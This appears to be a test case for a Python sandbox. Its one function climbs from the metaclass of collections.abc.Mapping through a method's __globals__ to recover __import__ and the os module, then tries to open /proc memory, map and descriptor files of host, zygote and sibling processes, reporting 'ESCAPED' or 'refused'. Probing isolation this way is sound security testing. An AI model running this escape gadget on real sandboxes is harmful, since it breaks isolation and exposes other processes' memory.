# expect: done
# idea: go through collections.abc to its metaclass and the C helpers behind it, and on to an open of the memory of the host
import collections.abc


def tick(ctx):
    meta = type(collections.abc.Mapping)
    space = meta.register.__globals__
    loader = space["__builtins__"]["__import__"]
    os = loader("os")
    for name in ("host", "zygote", "sibling"):
        for part in ("mem", "maps", "fd"):
            try:
                print("ESCAPED: opened", os.open(f"/proc/{ctx.config[name]}/{part}", os.O_RDONLY))
            except Exception as error:
                print("refused:", name, part, error)
